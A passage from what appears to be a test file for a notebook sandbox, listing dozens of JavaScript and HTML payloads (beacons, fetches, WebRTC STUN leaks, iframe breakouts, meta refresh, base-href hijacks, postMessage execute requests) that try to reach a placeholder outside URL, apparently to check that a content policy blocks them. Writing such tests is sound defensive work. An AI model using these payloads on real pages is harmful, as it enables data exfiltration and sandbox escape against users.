        "beacon": "navigator.sendBeacon('@URL@', 'x')",
        "xhr": "x = new XMLHttpRequest; x.open('GET', '@URL@'); x.send()",
        "websocket": "new WebSocket('@URL@'.replace('http', 'ws'))",
        "event_source": "new EventSource('@URL@')",
        "image": "new Image().src = '@URL@'",
        "import": "import('@URL@')",
        "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('@URL@', {mode: 'no-cors'})`])))",
        "shared_worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('@URL@', {mode: 'no-cors'})`])))",
        "script_element": "s = document.createElement('script'); s.src = '@URL@'; document.head.append(s)",
        "style_element": "s = document.createElement('style'); s.textContent = '@import \"@URL@\"'; document.head.append(s)",
        "font": "new FontFace('f', 'url(@URL@)').load().catch(() => 0)",
        "prefetch": "s = document.createElement('link'); s.rel = 'prefetch'; s.href = '@URL@'; document.head.append(s)",
        "inner_frame": "s = document.createElement('iframe'); s.src = '@URL@'; document.body.append(s)",
        "inner_data": "s = document.createElement('iframe'); s.src = 'data:text/html,<img src=@URL@><script>fetch(\"@URL@\")</scr' + 'ipt>'; document.body.append(s)",
        "inner_blob": "s = document.createElement('iframe'); s.src = URL.createObjectURL(new Blob(['<img src=@URL@>'], {type: 'text/html'})); document.body.append(s)",
        "inner_javascript": "s = document.createElement('iframe'); s.src = 'javascript:fetch(\"@URL@\")'; document.body.append(s)",
        "object": "s = document.createElement('object'); s.data = '@URL@'; document.body.append(s)",
        "form": "s = document.createElement('form'); s.action = '@URL@'; s.target = '_blank'; document.body.append(s); s.submit()",
        "open": "open('@URL@')",
        "open_blank": "w_o = open(); w_o.location = '@URL@'",
        "navigate": "location = '@URL@'",
        "navigate_replace": "location.replace('@URL@')",
        "navigate_link": "s = document.createElement('a'); s.href = '@URL@'; document.body.append(s); s.click()",
        "navigate_data": "s = document.createElement('iframe'); document.body.append(s); s.contentWindow.location = '@URL@'",
        "navigate_named": "s = document.createElement('iframe'); s.name = 'inner_n'; document.body.append(s); open('@URL@', 'inner_n')",
        "navigate_top": "top.location = '@URL@'",
        "navigate_parent": "parent.location.href = '@URL@'",
        "write": "s = document.createElement('iframe'); document.body.append(s); d = s.contentDocument; d.open(); d.write('<img src=@URL@>'); d.close()",
        "link_ping": "s = document.createElement('a'); s.ping = '@URL@'; s.href = '#x'; document.body.append(s); s.click()",
        "download": "s = document.createElement('a'); s.href = '@URL@'; s.download = 'x'; document.body.append(s); s.click()",
        "css_image_set": "document.body.style.backgroundImage = 'image-set(\"@URL@\" 1x)'",
        "svg_use": "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"@URL@\" width=9 height=9 /></svg>')",
        "webrtc": "pc_webrtc = new RTCPeerConnection({iceServers: [{urls: 'stun:@STUN@'}]}); pc_webrtc.createDataChannel('x'); pc_webrtc.createOffer().then(o => pc_webrtc.setLocalDescription(o))",
        "inner_webrtc": "s = document.createElement('iframe'); document.body.append(s); pc_inner_webrtc = new s.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:@STUN_INNER@'}]}); pc_inner_webrtc.createDataChannel('x'); pc_inner_webrtc.createOffer().then(o => pc_inner_webrtc.setLocalDescription(o))",
        "srcdoc_webrtc": "s = document.createElement('iframe'); s.srcdoc = `<script>pc_srcdoc_webrtc = new RTCPeerConnection({iceServers: [{urls: 'stun:@STUN_SRCDOC@'}]}); pc_srcdoc_webrtc.createDataChannel('x'); pc_srcdoc_webrtc.createOffer().then(o => pc_srcdoc_webrtc.setLocalDescription(o))</scr` + `ipt>`; document.body.append(s)",
        "copied_webrtc": "t = document.currentScript?.textContent; if (t && name != 'copy') { s = document.createElement('iframe'); s.name = 'copy'; s.srcdoc = '<script>' + t + '</scr' + 'ipt>'; document.body.append(s) }; pc_copied_webrtc = new RTCPeerConnection({iceServers: [{urls: 'stun:@STUN_COPIED@'}]}); pc_copied_webrtc.createDataChannel('x'); pc_copied_webrtc.createOffer().then(o => pc_copied_webrtc.setLocalDescription(o))",
        "srcdoc_fetch": "s = document.createElement('iframe'); s.srcdoc = `<img src='@URL@'><script>fetch('@URL@')</scr` + `ipt>`; document.body.append(s)",
        "svg_script": "document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"<svg><script href='@URL@'></scr` + `ipt></svg><script src='@URL@'></scr` + `ipt>\"></iframe>`)",
        "webtransport": "fetch('@URL@'); new WebTransport('https://127.0.0.1:9/x')",
        "cookie": "document.cookie; localStorage.length; @HIT@",
    }),
    Attack(name="frame_navigate_form", cell="html('<!doctype html><p class=a_fnav onclick=\"s = document.createElement(`form`); s.action = `@URL@`; document.body.append(s); s.submit()\">press</p><script>1</script>')", click=".a_fnav"),
    Attack(name="frame_meta_refresh", cell="html('<!doctype html><p class=a_fmeta onclick=\"s = document.createElement(`meta`); s.httpEquiv = `refresh`; s.content = `0;url=@URL@`; document.head.append(s)\">press</p><script>1</script>')", click=".a_fmeta"),
    Attack(name="frame_meta_in_head", cell="html('<!doctype html><html><head><meta http-equiv=refresh content=\"0;url=@URL@\"></head><body><img src=\"@URL@\"><script>1</script></body></html>')"),
    Attack(name="frame_looser_policy", cell="html('<!doctype html><html><head><meta http-equiv=Content-Security-Policy content=\"default-src *; img-src *\"></head><body><img src=\"@URL@\"><script>1</script></body></html>')"),
    Attack(name="frame_broken_out", cell="html('<!doctype html><script>1</script>\"></iframe><img src=x onerror=@HIT@>&quot;&gt;&lt;/iframe&gt;')"),
    Attack(name="frame_broken_out_quotes", cell="html(\"<!doctype html><script>1</script>' srcdoc='x' onload='@HIT@' x='\\\"></iframe><img src=x onerror=@HIT@>\")"),
    Attack(name="frame_early_head", cell="html('<!doctype html><img src=\"@URL@\"><head><script>1</script></head>')"),
    Attack(name="frame_comment_head", cell="html('<!doctype html><!--<head>--><img src=\"@URL@\"><script>1</script>')"),
    Attack(name="frame_link_click", cell="html('<!doctype html><a class=a_flink href=\"@URL@\" target=_top>press</a><script>1</script>')", click=".a_flink"),
    Attack(name="frame_link_blank", cell="html('<!doctype html><a class=a_fblank href=\"@URL@\" target=_blank>press</a><script>1</script>')", click=".a_fblank"),
    Attack(name="frame_form_click", cell="html('<!doctype html><form action=\"@URL@\"><button class=a_fform>press</button></form><script>1</script>')", click=".a_fform"),
    Attack(name="frame_message", cell="script('top.postMessage({msg_type: \"execute_request\", x: \"@HIT@\"}, \"*\")')", harmless="Lab's page does nothing with messages of a frame"),
    Attack(name="frame_dns", cell="html('<!doctype html><link rel=dns-prefetch href=\"//leak.invalid\"><script>1</script>')", harmless="a resolver's question leaves no trace a test can see here"),
]  # fmt: skip

#: They change the whole page where nothing stops them: all others come before.
LAST = [
    Attack(name="base_href", cell="html('<base href=\"@URL@/\"><img src=picture.png>')"),
    Attack(name="frame_base", cell="html('<script>document.querySelectorAll(\"base\").forEach(e => e.remove())</script>'); html('<html><head><base href=\"@URL@/\"></head><body><img src=x.png><script src=y.js></script></body></html>')"),
]  # fmt: skip

ATTACKS = [
    *MARKDOWN, *SCRIPT, *HANDLERS, *SVG, *ADDRESSES, *CSS, *FETCHES, *LATEX, *RENDERERS, *WIDGETS, *MESSAGES, *FRAMES, *LAST,
]  # fmt: skip
